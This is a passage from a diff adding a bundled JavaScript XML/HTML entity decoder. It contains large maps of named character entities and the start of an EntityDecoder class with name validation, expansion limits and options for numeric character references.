+  iogon: 'į',
+  Idot: 'İ',
+  IJlig: 'Ĳ',
+  ijlig: 'ĳ',
+  Jcirc: 'Ĵ',
+  jcirc: 'ĵ',
+  Kcedil: 'Ķ',
+  kcedil: 'ķ',
+  kgreen: 'ĸ',
+  Lacute: 'Ĺ',
+  lacute: 'ĺ',
+  Lcedil: 'Ļ',
+  lcedil: 'ļ',
+  Lcaron: 'Ľ',
+  lcaron: 'ľ',
+  Lmidot: 'Ŀ',
+  lmidot: 'ŀ',
+  Lstrok: 'Ł',
+  lstrok: 'ł',
+  Nacute: 'Ń',
+  nacute: 'ń',
+  Ncaron: 'Ň',
+  ncaron: 'ň',
+  Ncedil: 'Ņ',
+  ncedil: 'ņ',
+  ENG: 'Ŋ',
+  eng: 'ŋ',
+  Omacr: 'Ō',
+  omacr: 'ō',
+  Odblac: 'Ő',
+  odblac: 'ő',
+  OElig: 'Œ',
+  oelig: 'œ',
+  Racute: 'Ŕ',
+  racute: 'ŕ',
+  Rcaron: 'Ř',
+  rcaron: 'ř',
+  Rcedil: 'Ŗ',
+  rcedil: 'ŗ',
+  Sacute: 'Ś',
+  sacute: 'ś',
+  Scirc: 'Ŝ',
+  scirc: 'ŝ',
+  Scedil: 'Ş',
+  scedil: 'ş',
+  Scaron: 'Š',
+  scaron: 'š',
+  Tcedil: 'Ţ',
+  tcedil: 'ţ',
+  Tcaron: 'Ť',
+  tcaron: 'ť',
+  Tstrok: 'Ŧ',
+  tstrok: 'ŧ',
+  Utilde: 'Ũ',
+  utilde: 'ũ',
+  Umacr: 'Ū',
+  umacr: 'ū',
+  Ubreve: 'Ŭ',
+  ubreve: 'ŭ',
+  Uring: 'Ů',
+  uring: 'ů',
+  Udblac: 'Ű',
+  udblac: 'ű',
+  Uogon: 'Ų',
+  uogon: 'ų',
+  Wcirc: 'Ŵ',
+  wcirc: 'ŵ',
+  Ycirc: 'Ŷ',
+  ycirc: 'ŷ',
+  Zacute: 'Ź',
+  zacute: 'ź',
+  Zdot: 'Ż',
+  zdot: 'ż',
+  Zcaron: 'Ž',
+  zcaron: 'ž',
+};
+
+/**
+ * Greek Letters
+ * @type {Record<string, string>}
+ */
+const GREEK = {
+  Alpha: 'Α',
+  alpha: 'α',
+  Beta: 'Β',
+  beta: 'β',
+  Gamma: 'Γ',
+  gamma: 'γ',
+  Delta: 'Δ',
+  delta: 'δ',
+  Epsilon: 'Ε',
+  epsilon: 'ε',
+  epsiv: 'ϵ',
+  varepsilon: 'ϵ',
+  Zeta: 'Ζ',
+  zeta: 'ζ',
+  Eta: 'Η',
+  eta: 'η',
+  Theta: 'Θ',
+  theta: 'θ',
+  thetasym: 'ϑ',
+  vartheta: 'ϑ',
+  Iota: 'Ι',
+  iota: 'ι',
+  Kappa: 'Κ',
+  kappa: 'κ',
+  kappav: 'ϰ',
+  varkappa: 'ϰ',
+  Lambda: 'Λ',
+  lambda: 'λ',
+  Mu: 'Μ',
+  mu: 'μ',
+  Nu: 'Ν',
+  nu: 'ν',
+  Xi: 'Ξ',
+  xi: 'ξ',
+  Omicron: 'Ο',
+  omicron: 'ο',
+  Pi: 'Π',
+  pi: 'π',
+  piv: 'ϖ',
+  varpi: 'ϖ',
+  Rho: 'Ρ',
+  rho: 'ρ',
+  rhov: 'ϱ',
+  varrho: 'ϱ',
+  Sigma: 'Σ',
+  sigma: 'σ',
+  sigmaf: 'ς',
+  sigmav: 'ς',
+  varsigma: 'ς',
+  Tau: 'Τ',
+  tau: 'τ',
+  Upsilon: 'Υ',
+  upsilon: 'υ',
+  upsi: 'υ',
+  Upsi: 'ϒ',
+  upsih: 'ϒ',
+  Phi: 'Φ',
+  phi: 'φ',
+  phiv: 'ϕ',
+  varphi: 'ϕ',
+  Chi: 'Χ',
+  chi: 'χ',
+  Psi: 'Ψ',
+  psi: 'ψ',
+  Omega: 'Ω',
+  omega: 'ω',
+  ohm: 'Ω',
+  Gammad: 'Ϝ',
+  gammad: 'ϝ',
+  digamma: 'ϝ',
+};
+
+/**
+ * Cyrillic Letters
+ * @type {Record<string, string>}
+ */
+const CYRILLIC = {
+  Afr: '𝔄',
+  afr: '𝔞',
+  Acy: 'А',
+  acy: 'а',
+  Bcy: 'Б',
+  bcy: 'б',
+  Vcy: 'В',
+  vcy: 'в',
+  Gcy: 'Г',
+  gcy: 'г',
+  Dcy: 'Д',
+  dcy: 'д',
+  IEcy: 'Е',
+  iecy: 'е',
+  IOcy: 'Ё',
+  iocy: 'ё',
+  ZHcy: 'Ж',
+  zhcy: 'ж',
+  Zcy: 'З',
+  zcy: 'з',
+  Icy: 'И',
+  icy: 'и',
+  Jcy: 'Й',
+  jcy: 'й',
+  Kcy: 'К',
+  kcy: 'к',
+  Lcy: 'Л',
+  lcy: 'л',
+  Mcy: 'М',
+  mcy: 'м',
+  Ncy: 'Н',
+  ncy: 'н',
+  Ocy: 'О',
+  ocy: 'о',
+  Pcy: 'П',
+  pcy: 'п',
+  Rcy: 'Р',
+  rcy: 'р',
+  Scy: 'С',
+  scy: 'с',
+  Tcy: 'Т',
+  tcy: 'т',
+  Ucy: 'У',
+  ucy: 'у',
+  Fcy: 'Ф',
+  fcy: 'ф',
+  KHcy: 'Х',
+  khcy: 'х',
+  TScy: 'Ц',
+  tscy: 'ц',
+  CHcy: 'Ч',
+  chcy: 'ч',
+  SHcy: 'Ш',
+  shcy: 'ш',
+  SHCHcy: 'Щ',
+  shchcy: 'щ',
+  HARDcy: 'Ъ',
+  hardcy: 'ъ',
+  Ycy: 'Ы',
+  ycy: 'ы',
+  SOFTcy: 'Ь',
+  softcy: 'ь',
+  Ecy: 'Э',
+  ecy: 'э',
+  YUcy: 'Ю',
+  yucy: 'ю',
+  YAcy: 'Я',
+  yacy: 'я',
+  DJcy: 'Ђ',
+  djcy: 'ђ',
+  GJcy: 'Ѓ',
+  gjcy: 'ѓ',
+  Jukcy: 'Є',
+  jukcy: 'є',
+  DScy: 'Ѕ',
+  dscy: 'ѕ',
+  Iukcy: 'І',
+  iukcy: 'і',
+  YIcy: 'Ї',
+  yicy: 'ї',
+  Jsercy: 'Ј',
+  jsercy: 'ј',
+  LJcy: 'Љ',
+  ljcy: 'љ',
+  NJcy: 'Њ',
+  njcy: 'њ',
+  TSHcy: 'Ћ',
+  tshcy: 'ћ',
+  KJcy: 'Ќ',
+  kjcy: 'ќ',
+  Ubrcy: 'Ў',
+  ubrcy: 'ў',
+  DZcy: 'Џ',
+  dzcy: 'џ',
+};
+
+/**
+ * Mathematical Operators & Relations
+ * @type {Record<string, string>}
+ */
+const MATH = {
+  plus: '+',
+  pm: '±',
+  times: '×',
+  div: '÷',
+  divide: '÷',
+  sdot: '⋅',
+  star: '☆',
+  starf: '★',
+  bigstar: '★',
+  lowast: '∗',
+  ast: '*',
+  midast: '*',
+  compfn: '∘',
+  smallcircle: '∘',
+  bullet: '•',
+  bull: '•',
+  nbsp: '\u00a0',
+  hellip: '…',
+  mldr: '…',
+  prime: '′',
+  Prime: '″',
+  tprime: '‴',
+  bprime: '‵',
+  backprime: '‵',
+  minus: '−',
+  minusd: '∸',
+  dotminus: '∸',
+  plusdo: '∔',
+  dotplus: '∔',
+  plusmn: '±',
+  minusplus: '∓',
+  mnplus: '∓',
+  mp: '∓',
+  setminus: '∖',
+  smallsetminus: '∖',
+  Backslash: '∖',
+  setmn: '∖',
+  ssetmn: '∖',
+  lowbar: '_',
+  verbar: '|',
+  vert: '|',
+  VerticalLine: '|',
+  colon: ':',
+  Colon: '∷',
+  Proportion: '∷',
+  ratio: '∶',
+  equals: '=',
+  ne: '≠',
+  nequiv: '≢',
+  equiv: '≡',
+  Congruent: '≡',
+  sim: '∼',
+  thicksim: '∼',
+  thksim: '∼',
+  sime: '≃',
+  simeq: '≃',
+  TildeEqual: '≃',
+  asymp: '≈',
+  approx: '≈',
+  thickapprox: '≈',
+  thkap: '≈',
+  TildeTilde: '≈',
+  ncong: '≇',
+  cong: '≅',
+  TildeFullEqual: '≅',
+  asympeq: '≍',
+  CupCap: '≍',
+  bump: '≎',
+  Bumpeq: '≎',
+  HumpDownHump: '≎',
+  bumpe: '≏',
+  bumpeq: '≏',
+  HumpEqual: '≏',
+  le: '≤',
+  LessEqual: '≤',
+  ge: '≥',
+  GreaterEqual: '≥',
+  lesseqgtr: '⋚',
+  lesseqqgtr: '⪋',
+  greater: '>',
+  less: '<',
+};
+
+/**
+ * Mathematical Operators (Advanced)
+ * @type {Record<string, string>}
+ */
+const MATH_ADVANCED = {
+  alefsym: 'ℵ',
+  aleph: 'ℵ',
+  beth: 'ℶ',
+  gimel: 'ℷ',
+  daleth: 'ℸ',
+  forall: '∀',
+  ForAll: '∀',
+  part: '∂',
+  PartialD: '∂',
+  exist: '∃',
+  Exists: '∃',
+  nexist: '∄',
+  nexists: '∄',
+  empty: '∅',
+  emptyset: '∅',
+  emptyv: '∅',
+  varnothing: '∅',
+  nabla: '∇',
+  Del: '∇',
+  isin: '∈',
+  isinv: '∈',
+  in: '∈',
+  Element: '∈',
+  notin: '∉',
+  notinva: '∉',
+  ni: '∋',
+  niv: '∋',
+  SuchThat: '∋',
+  ReverseElement: '∋',
+  notni: '∌',
+  notniva: '∌',
+  prod: '∏',
+  Product: '∏',
+  coprod: '∐',
+  Coproduct: '∐',
+  sum: '∑',
+  Sum: '∑',
+  minus: '−',
+  mp: '∓',
+  plusdo: '∔',
+  dotplus: '∔',
+  setminus: '∖',
+  lowast: '∗',
+  radic: '√',
+  Sqrt: '√',
+  prop: '∝',
+  propto: '∝',
+  Proportional: '∝',
+  varpropto: '∝',
+  infin: '∞',
+  infintie: '⧝',
+  ang: '∠',
+  angle: '∠',
+  angmsd: '∡',
+  measuredangle: '∡',
+  angsph: '∢',
+  mid: '∣',
+  VerticalBar: '∣',
+  nmid: '∤',
+  nsmid: '∤',
+  npar: '∦',
+  parallel: '∥',
+  spar: '∥',
+  nparallel: '∦',
+  nspar: '∦',
+  and: '∧',
+  wedge: '∧',
+  or: '∨',
+  vee: '∨',
+  cap: '∩',
+  cup: '∪',
+  int: '∫',
+  Integral: '∫',
+  conint: '∮',
+  ContourIntegral: '∮',
+  Conint: '∯',
+  DoubleContourIntegral: '∯',
+  Cconint: '∰',
+  there4: '∴',
+  therefore: '∴',
+  Therefore: '∴',
+  becaus: '∵',
+  because: '∵',
+  Because: '∵',
+  ratio: '∶',
+  Proportion: '∷',
+  minusd: '∸',
+  dotminus: '∸',
+  mDDot: '∺',
+  homtht: '∻',
+  sim: '∼',
+  bsimg: '∽',
+  backsim: '∽',
+  ac: '∾',
+  mstpos: '∾',
+  acd: '∿',
+  VerticalTilde: '≀',
+  wr: '≀',
+  wreath: '≀',
+  nsime: '≄',
+  nsimeq: '≄',
+  ncong: '≇',
+  simne: '≆',
+  ncongdot: '⩭̸',
+  ngsim: '≵',
+  nsim: '≁',
+  napprox: '≉',
+  nap: '≉',
+  ngeq: '≱',
+  nge: '≱',
+  nleq: '≰',
+  nle: '≰',
+  ngtr: '≯',
+  ngt: '≯',
+  nless: '≮',
+  nlt: '≮',
+  nprec: '⊀',
+  npr: '⊀',
+  nsucc: '⊁',
+  nsc: '⊁',
+};
+
+/**
+ * Arrows
+ * @type {Record<string, string>}
+ */
+const ARROWS = {
+  larr: '←',
+  leftarrow: '←',
+  LeftArrow: '←',
+  uarr: '↑',
+  uparrow: '↑',
+  UpArrow: '↑',
+  rarr: '→',
+  rightarrow: '→',
+  RightArrow: '→',
+  darr: '↓',
+  downarrow: '↓',
+  DownArrow: '↓',
+  harr: '↔',
+  leftrightarrow: '↔',
+  LeftRightArrow: '↔',
+  varr: '↕',
+  updownarrow: '↕',
+  UpDownArrow: '↕',
+  nwarr: '↖',
+  nwarrow: '↖',
+  UpperLeftArrow: '↖',
+  nearr: '↗',
+  nearrow: '↗',
+  UpperRightArrow: '↗',
+  searr: '↘',
+  searrow: '↘',
+  LowerRightArrow: '↘',
+  swarr: '↙',
+  swarrow: '↙',
+  LowerLeftArrow: '↙',
+  lArr: '⇐',
+  Leftarrow: '⇐',
+  uArr: '⇑',
+  Uparrow: '⇑',
+  rArr: '⇒',
+  Rightarrow: '⇒',
+  dArr: '⇓',
+  Downarrow: '⇓',
+  hArr: '⇔',
+  Leftrightarrow: '⇔',
+  iff: '⇔',
+  vArr: '⇕',
+  Updownarrow: '⇕',
+  lAarr: '⇚',
+  Lleftarrow: '⇚',
+  rAarr: '⇛',
+  Rrightarrow: '⇛',
+  lrarr: '⇆',
+  leftrightarrows: '⇆',
+  rlarr: '⇄',
+  rightleftarrows: '⇄',
+  lrhar: '⇋',
+  leftrightharpoons: '⇋',
+  ReverseEquilibrium: '⇋',
+  rlhar: '⇌',
+  rightleftharpoons: '⇌',
+  Equilibrium: '⇌',
+  udarr: '⇅',
+  UpArrowDownArrow: '⇅',
+  duarr: '⇵',
+  DownArrowUpArrow: '⇵',
+  llarr: '⇇',
+  leftleftarrows: '⇇',
+  rrarr: '⇉',
+  rightrightarrows: '⇉',
+  ddarr: '⇊',
+  downdownarrows: '⇊',
+  har: '↽',
+  lhard: '↽',
+  leftharpoondown: '↽',
+  lharu: '↼',
+  leftharpoonup: '↼',
+  rhard: '⇁',
+  rightharpoondown: '⇁',
+  rharu: '⇀',
+  rightharpoonup: '⇀',
+  lsh: '↰',
+  Lsh: '↰',
+  rsh: '↱',
+  Rsh: '↱',
+  ldsh: '↲',
+  rdsh: '↳',
+  hookleftarrow: '↩',
+  hookrightarrow: '↪',
+  mapstoleft: '↤',
+  mapstoup: '↥',
+  map: '↦',
+  mapsto: '↦',
+  mapstodown: '↧',
+  crarr: '↵',
+  nleftarrow: '↚',
+  nleftrightarrow: '↮',
+  nrightarrow: '↛',
+  nrarr: '↛',
+  larrtl: '↢',
+  rarrtl: '↣',
+  leftarrowtail: '↢',
+  rightarrowtail: '↣',
+  twoheadleftarrow: '↞',
+  twoheadrightarrow: '↠',
+  Larr: '↞',
+  Rarr: '↠',
+  larrhk: '↩',
+  rarrhk: '↪',
+  larrlp: '↫',
+  looparrowleft: '↫',
+  rarrlp: '↬',
+  looparrowright: '↬',
+  harrw: '↭',
+  leftrightsquigarrow: '↭',
+  nrarrw: '↝̸',
+  rarrw: '↝',
+  rightsquigarrow: '↝',
+  larrbfs: '⤟',
+  rarrbfs: '⤠',
+  nvHarr: '⤄',
+  nvlArr: '⤂',
+  nvrArr: '⤃',
+  larrfs: '⤝',
+  rarrfs: '⤞',
+  Map: '⤅',
+  larrsim: '⥳',
+  rarrsim: '⥴',
+  harrcir: '⥈',
+  Uarrocir: '⥉',
+  lurdshar: '⥊',
+  ldrdhar: '⥧',
+  ldrushar: '⥋',
+  rdldhar: '⥩',
+  lrhard: '⥭',
+  uharr: '↾',
+  uharl: '↿',
+  dharr: '⇂',
+  dharl: '⇃',
+  Uarr: '↟',
+  Darr: '↡',
+  zigrarr: '⇝',
+  nwArr: '⇖',
+  neArr: '⇗',
+  seArr: '⇘',
+  swArr: '⇙',
+  nharr: '↮',
+  nhArr: '⇎',
+  nlarr: '↚',
+  nlArr: '⇍',
+  nrArr: '⇏',
+  larrb: '⇤',
+  LeftArrowBar: '⇤',
+  rarrb: '⇥',
+  RightArrowBar: '⇥',
+};
+
+/**
+ * Geometric Shapes
+ * @type {Record<string, string>}
+ */
+const SHAPES = {
+  square: '□',
+  Square: '□',
+  squ: '□',
+  squf: '▪',
+  squarf: '▪',
+  blacksquar: '▪',
+  blacksquare: '▪',
+  FilledVerySmallSquare: '▪',
+  blk34: '▓',
+  blk12: '▒',
+  blk14: '░',
+  block: '█',
+  srect: '▭',
+  rect: '▭',
+  sdot: '⋅',
+  sdotb: '⊡',
+  dotsquare: '⊡',
+  triangle: '▵',
+  tri: '▵',
+  trine: '▵',
+  utri: '▵',
+  triangledown: '▿',
+  dtri: '▿',
+  tridown: '▿',
+  triangleleft: '◃',
+  ltri: '◃',
+  triangleright: '▹',
+  rtri: '▹',
+  blacktriangle: '▴',
+  utrif: '▴',
+  blacktriangledown: '▾',
+  dtrif: '▾',
+  blacktriangleleft: '◂',
+  ltrif: '◂',
+  blacktriangleright: '▸',
+  rtrif: '▸',
+  loz: '◊',
+  lozenge: '◊',
+  blacklozenge: '⧫',
+  lozf: '⧫',
+  bigcirc: '◯',
+  xcirc: '◯',
+  circ: 'ˆ',
+  Circle: '○',
+  cir: '○',
+  o: '○',
+  bullet: '•',
+  bull: '•',
+  hellip: '…',
+  mldr: '…',
+  nldr: '‥',
+  boxh: '─',
+  HorizontalLine: '─',
+  boxv: '│',
+  boxdr: '┌',
+  boxdl: '┐',
+  boxur: '└',
+  boxul: '┘',
+  boxvr: '├',
+  boxvl: '┤',
+  boxhd: '┬',
+  boxhu: '┴',
+  boxvh: '┼',
+  boxH: '═',
+  boxV: '║',
+  boxdR: '╒',
+  boxDr: '╓',
+  boxDR: '╔',
+  boxDl: '╕',
+  boxdL: '╖',
+  boxDL: '╗',
+  boxuR: '╘',
+  boxUr: '╙',
+  boxUR: '╚',
+  boxUl: '╜',
+  boxuL: '╛',
+  boxUL: '╝',
+  boxvR: '╞',
+  boxVr: '╟',
+  boxVR: '╠',
+  boxVl: '╢',
+  boxvL: '╡',
+  boxVL: '╣',
+  boxHd: '╤',
+  boxhD: '╥',
+  boxHD: '╦',
+  boxHu: '╧',
+  boxhU: '╨',
+  boxHU: '╩',
+  boxvH: '╪',
+  boxVh: '╫',
+  boxVH: '╬',
+};
+
+/**
+ * Punctuation & Diacritics
+ * @type {Record<string, string>}
+ */
+const PUNCTUATION = {
+  excl: '!',
+  iexcl: '¡',
+  brvbar: '¦',
+  sect: '§',
+  uml: '¨',
+  copy: '©',
+  ordf: 'ª',
+  laquo: '«',
+  not: '¬',
+  shy: '\u00ad',
+  reg: '®',
+  macr: '¯',
+  deg: '°',
+  plusmn: '±',
+  sup2: '²',
+  sup3: '³',
+  acute: '´',
+  micro: 'µ',
+  para: '¶',
+  middot: '·',
+  cedil: '¸',
+  sup1: '¹',
+  ordm: 'º',
+  raquo: '»',
+  frac14: '¼',
+  frac12: '½',
+  frac34: '¾',
+  iquest: '¿',
+  nbsp: '\u00a0',
+  comma: ',',
+  period: '.',
+  colon: ':',
+  semi: ';',
+  vert: '|',
+  Verbar: '‖',
+  verbar: '|',
+  dblac: '˝',
+  circ: 'ˆ',
+  caron: 'ˇ',
+  breve: '˘',
+  dot: '˙',
+  ring: '˚',
+  ogon: '˛',
+  tilde: '˜',
+  DiacriticalGrave: '`',
+  DiacriticalAcute: '´',
+  DiacriticalTilde: '˜',
+  DiacriticalDot: '˙',
+  DiacriticalDoubleAcute: '˝',
+  grave: '`',
+};
+
+/**
+ * Currency Symbols
+ * @type {Record<string, string>}
+ */
+const CURRENCY = {
+  cent: '¢',
+  pound: '£',
+  curren: '¤',
+  yen: '¥',
+  euro: '€',
+  dollar: '$',
+  fnof: 'ƒ',
+  inr: '₹',
+  af: '؋',
+  birr: 'ብር',
+  peso: '₱',
+  rub: '₽',
+  won: '₩',
+  yuan: '¥',
+  cedil: '¸',
+};
+
+/**
+ * Fractions
+ * @type {Record<string, string>}
+ */
+const FRACTIONS = {
+  frac12: '½',
+  half: '½',
+  frac13: '⅓',
+  frac14: '¼',
+  frac15: '⅕',
+  frac16: '⅙',
+  frac18: '⅛',
+  frac23: '⅔',
+  frac25: '⅖',
+  frac34: '¾',
+  frac35: '⅗',
+  frac38: '⅜',
+  frac45: '⅘',
+  frac56: '⅚',
+  frac58: '⅝',
+  frac78: '⅞',
+  frasl: '⁄',
+};
+
+/**
+ * Miscellaneous Symbols
+ * @type {Record<string, string>}
+ */
+const MISC_SYMBOLS = {
+  trade: '™',
+  TRADE: '™',
+  telrec: '⌕',
+  target: '⌖',
+  ulcorn: '⌜',
+  ulcorner: '⌜',
+  urcorn: '⌝',
+  urcorner: '⌝',
+  dlcorn: '⌞',
+  llcorner: '⌞',
+  drcorn: '⌟',
+  lrcorner: '⌟',
+  intercal: '⊺',
+  intcal: '⊺',
+  oplus: '⊕',
+  CirclePlus: '⊕',
+  ominus: '⊖',
+  CircleMinus: '⊖',
+  otimes: '⊗',
+  CircleTimes: '⊗',
+  osol: '⊘',
+  odot: '⊙',
+  CircleDot: '⊙',
+  oast: '⊛',
+  circledast: '⊛',
+  odash: '⊝',
+  circleddash: '⊝',
+  ocirc: '⊚',
+  circledcirc: '⊚',
+  boxplus: '⊞',
+  plusb: '⊞',
+  boxminus: '⊟',
+  minusb: '⊟',
+  boxtimes: '⊠',
+  timesb: '⊠',
+  boxdot: '⊡',
+  sdotb: '⊡',
+  veebar: '⊻',
+  vee: '∨',
+  barvee: '⊽',
+  and: '∧',
+  wedge: '∧',
+  Cap: '⋒',
+  Cup: '⋓',
+  Fork: '⋔',
+  pitchfork: '⋔',
+  epar: '⋕',
+  ltlarr: '⥶',
+  nvap: '≍⃒',
+  nvsim: '∼⃒',
+  nvge: '≥⃒',
+  nvle: '≤⃒',
+  nvlt: '<⃒',
+  nvgt: '>⃒',
+  nvltrie: '⊴⃒',
+  nvrtrie: '⊵⃒',
+  Vdash: '⊩',
+  dashv: '⊣',
+  vDash: '⊨',
+  Vvdash: '⊪',
+  nvdash: '⊬',
+  nvDash: '⊭',
+  nVdash: '⊮',
+  nVDash: '⊯',
+};
+
+const XML = {
+  amp: "&",
+  apos: "'",
+  gt: ">",
+  lt: "<",
+  quot: "\""
+}
+const COMMON_HTML = {
+  nbsp: '\u00a0',
+  copy: '\u00a9',
+  reg: '\u00ae',
+  trade: '\u2122',
+  mdash: '\u2014',
+  ndash: '\u2013',
+  hellip: '\u2026',
+  laquo: '\u00ab',
+  raquo: '\u00bb',
+  lsquo: '\u2018',
+  rsquo: '\u2019',
+  ldquo: '\u201c',
+  rdquo: '\u201d',
+  bull: '\u2022',
+  para: '\u00b6',
+  sect: '\u00a7',
+  deg: '\u00b0',
+  frac12: '\u00bd',
+  frac14: '\u00bc',
+  frac34: '\u00be',
+}
+// ---------------------------------------------------------------------------
+// Note: NUMERIC_ENTITIES (&#NNN; / &#xHH;) are handled by the scanner directly
+// via String.fromCodePoint() without any map lookup.
+// ---------------------------------------------------------------------------
+;// CONCATENATED MODULE: ./node_modules/@nodable/entities/src/EntityDecoder.js
+// ---------------------------------------------------------------------------
+// Built-in named entity map  (name → replacement string)
+// No regex, no {regex,val} objects — just flat key/value pairs.
+// ---------------------------------------------------------------------------
+
+
+
+// ---------------------------------------------------------------------------
+// Entity hook action constants
+// ---------------------------------------------------------------------------
+
+/**
+ * Action constants for `onExternalEntity` and `onInputEntity` hooks.
+ *
+ * Use these instead of raw strings to avoid typos:
+ *
+ * @example
+ * import EntityDecoder, { ENTITY_ACTION } from './EntityDecoder.js';
+ * const dec = new EntityDecoder({
+ *   onInputEntity: (name, value) => ENTITY_ACTION.BLOCK,
+ * });
+ */
+const ENTITY_ACTION = Object.freeze({
+  /** Resolve and expand the entity normally. */
+  ALLOW: 'allow',
+  /** Silently skip this entity — it will not be registered. */
+  BLOCK: 'block',
+  /** Throw an error, aborting entity registration entirely. */
+  THROW: 'throw',
+});
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+const SPECIAL_CHARS = new Set('!?\\\\/[]$%{}^&*()<>|+');
+
+/**
+ * Validate that an entity name contains no dangerous characters.
+ * @param {string} name
+ * @returns {string} the name, unchanged
+ * @throws {Error} on invalid characters
+ */
+function EntityDecoder_validateEntityName(name) {
+  if (name[0] === '#') {
+    throw new Error(`[EntityReplacer] Invalid character '#' in entity name: "${name}"`);
+  }
+  for (const ch of name) {
+    if (SPECIAL_CHARS.has(ch)) {
+      throw new Error(`[EntityReplacer] Invalid character '${ch}' in entity name: "${name}"`);
+    }
+  }
+  return name;
+}
+
+/**
+ * Merge one or more entity maps into a flat name→string map.
+ * Accepts either:
+ *   - plain string values:             { amp: '&' }
+ *   - legacy {regex,val} / {regx,val}: { lt: { regex: /.../, val: '<' } }
+ *
+ * Values containing '&' are skipped (recursive expansion risk).
+ *
+ * @param {...object} maps
+ * @returns {Record<string, string>}
+ */
+function mergeEntityMaps(...maps) {
+  const out = Object.create(null);
+  for (const map of maps) {
+    if (!map) continue;
+    for (const key of Object.keys(map)) {
+      const raw = map[key];
+      if (typeof raw === 'string') {
+        out[key] = raw;
+      } else if (raw && typeof raw === 'object' && raw.val !== undefined) {
+        // Legacy {regex,val} or {regx,val} — extract the string val only
+        const val = raw.val;
+        if (typeof val === 'string') {
+          out[key] = val;
+        }
+        // function vals are not supported in the scanner — skip
+      }
+    }
+  }
+  return out;
+}
+
+// ---------------------------------------------------------------------------
+// applyLimitsTo helpers
+// ---------------------------------------------------------------------------
+
+const LIMIT_TIER_EXTERNAL = 'external'; // input/runtime + persistent external maps
+const LIMIT_TIER_BASE = 'base';     // DEFAULT_XML_ENTITIES + namedEntities (system) maps
+const LIMIT_TIER_ALL = 'all';      // every entity regardless of tier
+
+/**
+ * Resolve `applyLimitsTo` option into a normalised Set of tier strings.
+ * Accepted values: 'external' | 'base' | 'all' | string[]
+ * Default: 'external' (only untrusted injected entities are counted).
+ * @param {string|string[]|undefined} raw
+ * @returns {Set<string>}
+ */
+function parseLimitTiers(raw) {
+  if (!raw || raw === LIMIT_TIER_EXTERNAL) return new Set([LIMIT_TIER_EXTERNAL]);
+  if (raw === LIMIT_TIER_ALL) return new Set([LIMIT_TIER_ALL]);
+  if (raw === LIMIT_TIER_BASE) return new Set([LIMIT_TIER_BASE]);
+  if (Array.isArray(raw)) return new Set(raw);
+  return new Set([LIMIT_TIER_EXTERNAL]); // safe default for unrecognised values
+}
+
+// ---------------------------------------------------------------------------
+// NCR (Numeric Character Reference) classification
+// ---------------------------------------------------------------------------
+
+// Severity order — higher number = stricter action.
+// Used to enforce minimum action levels for specific codepoint ranges.
+const NCR_LEVEL = Object.freeze({ allow: 0, leave: 1, remove: 2, throw: 3 });
+
+// XML 1.0 §2.2: allowed chars are #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]
+// Restricted C0: U+0001–U+001F excluding U+0009, U+000A, U+000D
+const XML10_ALLOWED_C0 = new Set([0x09, 0x0A, 0x0D]);
+
+/**
+ * Parse the `ncr` constructor option into flat, hot-path-friendly fields.
+ * @param {object|undefined} ncr
+ * @returns {{ xmlVersion: number, onLevel: number, nullLevel: number }}
+ */
+function parseNCRConfig(ncr) {
+  if (!ncr) {
+    return { xmlVersion: 1.0, onLevel: NCR_LEVEL.allow, nullLevel: NCR_LEVEL.remove };
+  }
+  const xmlVersion = ncr.xmlVersion === 1.1 ? 1.1 : 1.0;
+  const onLevel = NCR_LEVEL[ncr.onNCR] ?? NCR_LEVEL.allow;
+  const nullLevel = NCR_LEVEL[ncr.nullNCR] ?? NCR_LEVEL.remove;
+  // 'allow' is not meaningful for null — clamp to at least 'remove'
+  const clampedNull = Math.max(nullLevel, NCR_LEVEL.remove);
+  return { xmlVersion, onLevel, nullLevel: clampedNull };
+}
+
+// ---------------------------------------------------------------------------
+// EntityReplacer
+// ---------------------------------------------------------------------------
+
+/**
+ * Single-pass, zero-regex entity replacer for XML/HTML content.
+ *
+ * Algorithm: scan the string once for '&', read to ';', resolve via map
+ * or direct codepoint conversion, build output chunks, join once at the end.
+ *
+ * Entity lookup priority (highest → lowest):
+ *   1. input / runtime  (DOCTYPE entities for current document)
+ *   2. persistent external (survive across documents)
+ *   3. base named map   (DEFAULT_XML_ENTITIES + user-supplied namedEntities)
+ *
+ * Both input and external resolve as the 'external' tier for limit purposes.
+ * Base map entities resolve as the 'base' tier.
+ *
+ * Numeric / hex references (&#NNN; / &#xHH;) are resolved directly via
+ * String.fromCodePoint() — no map needed. They count as 'base' tier.
+ *
+ * @example
+ * const replacer = new EntityReplacer({ namedEntities: COMMON_HTML });
+ * replacer.setExternalEntities({ brand: 'Acme' });
+ *
+ * const instance = replacer.reset();
+ * instance.addInputEntities({ version: '1.0' });
+ * instance.encode('&brand; v&version; &lt;'); // 'Acme v1.0 <'
+ */
+class EntityDecoder {
+  /**
+   * @param {object} [options]
+   * @param {object|null}  [options.namedEntities]        — extra named entities merged into base map
+   * @param {object}  [options.limit]                 — security limits
+   * @param {number}       [options.limit.maxTotalExpansions=0]  — 0 = unlimited
+   * @param {number}       [options.limit.maxExpandedLength=0]   — 0 = unlimited
+   * @param {'external'|'base'|'all'|string[]} [options.limit.applyLimitsTo='external']
+   *   Which entity tiers count against the security limits:
+   *   - 'external' (default) — only input/runtime + persistent external entities
+   *   - 'base'               — only DEFAULT_XML_ENTITIES + namedEntities
+   *   - 'all'                — every entity regardless of tier
+   *   - string[]             — explicit combination, e.g. ['external', 'base']
+   * @param {((resolved: string, original: string) => string)|null} [options.postCheck=null]
+   * @param {string[]} [options.remove=[]] — entity names (e.g. ['nbsp', '#13']) to delete (replace with empty string)
+   * @param {string[]} [options.leave=[]]  — entity names to keep as literal (unchanged in output)
+   * @param {object}   [options.ncr]       — Numeric Character Reference controls
+   * @param {1.0|1.1}  [options.ncr.xmlVersion=1.0]
+   *   XML version governing which codepoint ranges are restricted:
+   *   - 1.0 — C0 controls U+0001–U+001F (except U+0009/000A/000D) are prohibited
+   *   - 1.1 — C0 controls are allowed when written as NCRs; C1 (U+007F–U+009F) decoded as-is
+   * @param {'allow'|'leave'|'remove'|'throw'} [options.ncr.onNCR='allow']
+   *   Base action for numeric references. Severity order: allow < leave < remove < throw.
+   *   For codepoint ranges that carry a minimum level (surrogates → remove, XML 1.0 C0 → remove),
+   *   the effective action is max(onNCR, rangeMinimum).
+   * @param {'remove'|'throw'} [options.ncr.nullNCR='remove']
+   *   Action for U+0000 (null). 'allow' and 'leave' are clamped to 'remove' since null is never safe.
